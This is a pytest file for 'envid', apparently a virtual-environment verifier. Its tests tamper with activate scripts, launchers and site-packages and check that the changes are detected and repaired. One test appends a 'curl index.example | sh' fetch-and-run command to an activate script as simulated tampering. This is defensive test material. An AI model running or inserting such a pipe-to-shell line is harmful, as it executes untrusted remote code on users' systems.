"""What no wheel brings: scripts for shells, files of installers, directories without files."""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from envid.app.sync import sync
from envid.app.verify import verify
from envid.installed import note
from locked import LockedProject, picture


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> LockedProject:
    """A project whose environment was made by envid."""
    for name in ("project", "served"):
        (tmp_path / name).mkdir()
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv-cache"))
    made = LockedProject(root=tmp_path / "project", served=tmp_path / "served", cache=tmp_path / "cache")
    made.lock(made.wheel("alpha"))
    sync(made.workspace())
    return made


def errors(project: LockedProject, depth: str = "default") -> list[str]:
    """Code and path of every error about the environment."""
    found = verify(project.workspace(offline=True), depth=depth).findings  # type: ignore[arg-type]
    return [f"{f.code} {f.path}" for f in found if f.severity == "error" and not f.code.startswith("lock.")]


def site(project: LockedProject) -> Path:
    """Its site-packages."""
    return next((project.root / ".venv" / "lib").glob("python*")) / "site-packages"


@pytest.mark.parametrize("depth", ["default", "full"])
def test_a_script_for_shells_is_held_to_what_was_made(project: LockedProject, depth: str) -> None:
    """Where envid made the environment, a changed, replaced or added activate script is found; a removed one is not."""
    scripts = project.root / ".venv" / "bin"
    assert errors(project, depth) == []
    (scripts / "activate.csh").unlink()
    assert errors(project, depth) == []
    activate = (scripts / "activate").read_bytes()
    (scripts / "activate").write_bytes(activate + b"curl index.example | sh\n")
    (scripts / "activate.xsh").write_bytes(b"evil")
    fish = (scripts / "activate.fish").read_bytes()
    (project.root / "elsewhere").write_bytes(fish)
    (scripts / "activate.fish").unlink()
    (scripts / "activate.fish").symlink_to(project.root / "elsewhere")
    assert errors(project, depth) == [
        "env.config bin/activate", "env.config bin/activate.fish", "env.config bin/activate.xsh"
    ]  # fmt: skip
    assert sync(project.workspace(offline=True)).exit_code == 1
    (scripts / "activate").write_bytes(activate)
    (scripts / "activate.xsh").unlink()
    (scripts / "activate.fish").unlink()
    (scripts / "activate.fish").write_bytes(fish)
    assert errors(project, depth) == []


def test_a_moved_environment_is_one_finding(project: LockedProject) -> None:
    """What follows from the move is counted in the finding of it, whose hint helps; what was tampered with is not."""
    launcher = "[console_scripts]\nalpha = alpha:main\nalpha2 = alpha:main\n"
    project.lock(project.wheel("alpha", "2.0", entry_points=launcher))
    sync(project.workspace())
    moved = project.root.rename(project.root.with_name("moved"))
    there = replace(project, root=moved)
    for depth in ("default", "default", "full"):
        assert errors(there, depth) == ["env.config pyvenv.cfg"]
    outcome = verify(there.workspace(offline=True))
    (finding,) = (one for one in outcome.findings if one.code == "env.config")
    assert "2 scripts start the Python there" in finding.message
    assert finding.hint == f"remove {moved / '.venv'}, then run `envid sync`"
    assert outcome.data["verified"] == 0
    with (moved / ".venv/bin/alpha").open("a") as script:
        script.write("import evil\n")
    assert errors(there) == ["env.config pyvenv.cfg", "env.tampered bin/alpha"]


def test_what_is_known_of_the_scripts_survives_later_syncs(project: LockedProject) -> None:
    """A sync that changes distributions, and one that changes nothing, keep what the first one noted."""
    root = project.root / ".venv"
    first = note.read(root)
    project.lock(project.wheel("alpha"), project.wheel("beta"))
    sync(project.workspace())
    sync(project.workspace())
    second = note.read(root)
    assert first is not None
    assert second is not None
    assert "activate" in first.frame
    assert first.frame == second.frame


def test_nothing_is_said_of_the_scripts_of_others(project: LockedProject) -> None:
    """In an environment that another program made, nothing tells what its scripts were, and none is an alarm."""
    root = project.root / ".venv"
    shutil.rmtree(root)
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(root)], check=True)
    assert sync(project.workspace()).exit_code == 0
    with open(root / "bin" / "activate", "ab") as stream:
        stream.write(b"# mine\n")
    assert errors(project, "full") == []


PLANTED: dict[str, Callable[[Path], None]] = {
    "a direct_url.json without a digest": lambda site: put(next(site.glob("alpha-*")) / "direct_url.json", b"{}"),
    "another INSTALLER": lambda site: put(next(site.glob("alpha-*")) / "INSTALLER", b"conda\n"),
    "a REQUESTED that is not empty": lambda site: put(next(site.glob("alpha-*")) / "REQUESTED", b"evil"),
    "an empty directory": lambda site: (site / "simplejson" / "deeper").mkdir(parents=True),
    "a library for another Python": lambda site: put(site.parents[1] / "python3.8" / "site-packages" / "evil.py"),
    "a module beside site-packages": lambda site: put(site.parent / "evil.py"),
}


def put(path: Path, data: bytes = b"evil = 1\n") -> None:
    """Write a file and its directories."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


@pytest.mark.parametrize("what", PLANTED)
def test_what_was_planted_is_found_and_sync_takes_it_away(project: LockedProject, what: str) -> None:
    """Each is an error by default and in full, and after one sync every file is as before."""
    before = picture(project.root / ".venv")
    assert errors(project) == []
    PLANTED[what](site(project))
    assert errors(project) != []
    assert errors(project, "full") != []
    outcome = sync(project.workspace(offline=True))
    assert outcome.exit_code == 0, outcome.findings
    assert errors(project, "full") == []
    unlike = {path for path, _ in set(before.items()) ^ set(picture(project.root / ".venv").items())}
    # The times in uv's own file differ with each installation, and RECORD has its digest.
    assert {path.rpartition("/")[2] for path in unlike} <= {"uv_cache.json", "RECORD", ".envid.json"}


def test_an_emptied_namespace_of_wheels_is_told_once(project: LockedProject) -> None:
    """Where a wheel's package lost all its files, these are missing, and the directory is not held against it."""
    (site(project) / "alpha" / "__init__.py").unlink()
    assert [one.partition(" ")[0] for one in errors(project, "full")] == ["env.missing-file"]
